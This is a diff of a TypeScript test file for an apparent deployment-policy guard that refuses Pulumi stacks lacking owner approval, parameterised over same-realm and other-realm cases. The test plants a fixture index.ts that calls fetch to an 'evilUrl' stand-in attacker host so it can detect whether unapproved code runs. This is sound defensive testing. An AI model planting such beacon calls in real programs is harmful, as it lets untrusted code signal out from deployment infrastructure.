@@ -253,19 +253,29 @@ test("the program, the pipelines, the policy pack and an exception, beside a har
   await isRefused([`exception from lifetimes for realm changes from nothing to until ${later}${byOwners}`, `the program changes: index.ts, pipelines/bitbucket-pipelines.yml, policy/pack.ts${byOwners}`], id); // prettier-ignore
 });
 
-test("a stack under another name, which is in the same realm", async () => {
-  const text = company.good[stackFile] ?? "";
+const unknown = (why: string, by: string) =>
+  `nobody knows what stack second holds: ${why}: the pull request that brought (commit) has to be approved by two whom ${by} names as its owners, and who wrote nothing of it; what is merged has to be just what they approved of: ana@small.example, ben@small.example`;
+
+test.each([
+  ["the same realm", false],
+  ["another realm", true],
+])("a stack under another name, which is in %s", async (_, isElsewhere) => {
+  const { realm } = company.small.world;
+  const elsewhere = isElsewhere ? { "keycloak.realm": `${realm}-elsewhere` } : {};
+  const text = withSettings(company.good[stackFile] ?? "", elsewhere);
+  // It would say so the moment that it runs.
+  const program = { "index.ts": `void fetch("${evilUrl()}/ran");\nexport {};\n` };
   const last = await mergeAll([
-    { ...cemAlone, files: { ...access(deployer), "stacks/Pulumi.second.yaml": text, files: stackFile } },
+    {
+      ...cemAlone,
+      files: { ...access(deployer), ...program, "stacks/Pulumi.second.yaml": text, files: stackFile },
+    },
   ]);
-  expect((await company.small.run("pulumi", "stack", "init", "second")).code).toBe(0);
-  await isRefused(
-    [
-      `nobody knows what stack second holds: realm ${company.small.world.realm} is there already, and this stack has not made it: the pull request that brought (commit) has to be approved by two whom the realm names as its owners, and who wrote nothing of it; what is merged has to be just what they approved of: ana@small.example, ben@small.example`,
-    ],
-    last,
-    "second",
-  );
+  expect((await company.small.run("pulumi", "stack", "select", "second", "--create")).code).toBe(0);
+  const why = isElsewhere
+    ? unknown("stack main was brought up for workspace acme, and its file is gone", "stack main")
+    : unknown(`realm ${realm} is there already, and this stack has not made it`, "the realm");
+  await isRefused([why], last, "second");
 });
 
 test("plain pulumi up", async () => {
